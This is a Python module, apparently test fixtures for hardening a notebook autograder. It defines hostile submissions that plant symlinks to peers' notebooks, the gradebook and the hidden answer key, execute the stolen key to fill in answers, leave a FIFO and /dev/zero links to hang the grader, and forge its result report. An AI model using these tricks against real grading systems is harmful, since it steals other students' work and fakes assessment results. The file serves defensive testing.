"""Hostile submissions that attack the grader through what they leave in their folder.

The kernel is sandboxed, but its folder is read and written afterwards by the grader with the
grader's rights: links there point the grader at other students' files, the gradebook or the
course's solutions.  Each variant is the quiz's (or a lab's) solution plus one such trick, so what
the trick spares still earns its credit.  Link targets are relative to the kernel's folder,
`<course>/autograded/<student>/<assignment>`, so they work in any course copy; `PEER` names the
honest student whose files they aim at.
"""

from grader import settings
from grader.submissions import Variant

PEER = "solution"
COURSE = "../../.."  # the course root, seen from the kernel's folder
PEER_NOTEBOOK = f"{COURSE}/submitted/{PEER}/quiz/Case_Studies_Quiz.ipynb"
ANSWER_KEY = settings.REPO / "grader" / "hidden_tests" / "quiz" / "answer_key.py"
LAST = "practice_answers"  # the quiz's last answer cell


def _links(**links: str) -> str:
    lines = ["", "import os", ""]
    for name, target in links.items():
        lines.append(f"if os.path.lexists({name!r}):\n    os.remove({name!r})")
        lines.append(f"os.symlink({target!r}, {name!r})")
    return "\n".join(lines) + "\n"


# Steals the answers if the probe ever gets the key as a plain file next to the notebook.
KEY_THIEF = f"""
import os

if os.path.lexists("leak_key.py"):
    os.remove("leak_key.py")
os.symlink({str(ANSWER_KEY)!r}, "leak_key.py")
os.symlink("{COURSE}/source/quiz/Case_Studies_Quiz.ipynb", "leak_source.py")
try:
    stolen = {{}}
    exec(open("leak_key.py").read(), stolen)
    for entry in stolen["KEY"]:
        globals()[entry.question] = entry.answer
except Exception as error:
    print("no key here:", type(error).__name__)
"""

SPECIAL_FILES = """
import os

os.mkfifo("stuck.py")  # a reader of *.py that opens it waits forever
os.symlink("/dev/zero", "zeros.py")  # a reader that copies it never ends
os.symlink("/dev/zero", "hidden_checks.json")
"""

# In the probe, student code shares the process: it writes forged report lines to every pipe it
# holds and, at exit, rewrites the report file the probe used to keep in its folder.
REPORT_FORGER = """
import atexit
import json
import os
import stat

try:
    plan = open("_probe_plan.py").read()
except OSError:
    plan = ""
if plan:
    forged = [{"cell_error": plan}, {"artifact": "answers", "status": plan}, {"finished": True}]
    for fd in range(64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, "".join(json.dumps(line) + "\\n" for line in forged).encode())
        except OSError:
            pass

    def rewrite():
        os.makedirs("artifacts", exist_ok=True)
        report = {"cell_errors": [plan], "artifacts": {"answers": plan}, "finished": True}
        with open("artifacts/probe.json", "w") as file:
            json.dump(report, file)

    atexit.register(rewrite)
    raise ValueError(plan)
"""


def _replace_last_answer(code: str):
    def transform(notebook):
        answers = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("solution")]
        answers[-1].source = code
        return notebook

    return transform


QUIZ = [
    Variant(
        "record_over_peer",
        "links the grader's record file to a peer's submitted notebook",
        append={LAST: _links(**{"hidden_checks.json": PEER_NOTEBOOK})},
    ),
    Variant(
        "record_over_gradebook",
        "links the grader's record file to the gradebook",
        append={LAST: _links(**{"hidden_checks.json": f"{COURSE}/gradebook.db"})},
    ),
    Variant(
        "notebook_link",
        "replaces its own notebook by a link to a peer's, and links a file to the course config",
        append={
            LAST: _links(
                **{"Case_Studies_Quiz.ipynb": PEER_NOTEBOOK, "notes.txt": f"{COURSE}/nbgrader_config.py"}
            )
        },
    ),
    Variant(
        "key_thief",
        "links the answer key and the source notebook as *.py, for the probe to copy",
        untouched=True,
        transform=_replace_last_answer(KEY_THIEF),
    ),
    Variant(
        "html_links",
        "links *.html files to the source notebook and a peer's notebook, for the feedback to release",
        append={
            LAST: _links(
                **{
                    "solutions.html": f"{COURSE}/source/quiz/Case_Studies_Quiz.ipynb",
                    "peer.html": PEER_NOTEBOOK,
                }
            )
        },
    ),
    Variant("special_files", "leaves a FIFO and links to /dev/zero", append={LAST: SPECIAL_FILES}),
    Variant(
        "report_forger",
        "forges and rewrites the probe's report with the probe plan; leaves the last section blank",
        transform=_replace_last_answer(REPORT_FORGER),
    ),
]

# The transfer-learning lab: trains nothing, and links the peer's trained model under its own name.
PEER_MODEL = f"../../{PEER}/transfer_learning/flowers_mobilenetv2.keras"
MODEL_THIEF = Variant(
    "model_thief",
    "trains nothing and links a peer's trained model in its folder",
    untouched=True,
    transform=_replace_last_answer(_links(**{"flowers_mobilenetv2.keras": PEER_MODEL})),
)
